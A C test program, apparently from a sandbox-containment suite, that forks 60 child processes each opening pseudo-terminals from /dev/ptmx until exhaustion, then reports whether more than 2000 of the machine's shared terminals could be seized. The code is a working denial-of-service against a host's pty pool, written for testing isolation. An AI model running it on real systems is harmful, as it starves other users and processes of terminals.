/*
 * Attack: takes what all processes of the machine have together: terminals
 * Ends: exit 0 or deadline
 * Reaches L2: terminals
 * Reaches L3: terminals
 */
#include "hostile.h"

enum {
    TOO_MANY = 2000 /* of 4096 */
};

int main(void)
{
    int results[2], count = 0;
    if (pipe(results) == -1)
        err(EXIT_FAILURE, "pipe");
    for (int i = 0; i < 60; i++) {
        int more = 0;
        if (fork() == 0) {
            while (open("/dev/ptmx", O_RDWR | O_NOCTTY) != -1)
                more++;
            if (write(results[1], &more, sizeof more) == -1)
                _exit(1);
            for (;;)
                pause();
        }
        if (read(results[0], &more, sizeof more) != sizeof more)
            break;
        count += more;
    }
    tried(count > TOO_MANY, "terminals");
    return EXIT_SUCCESS;
}
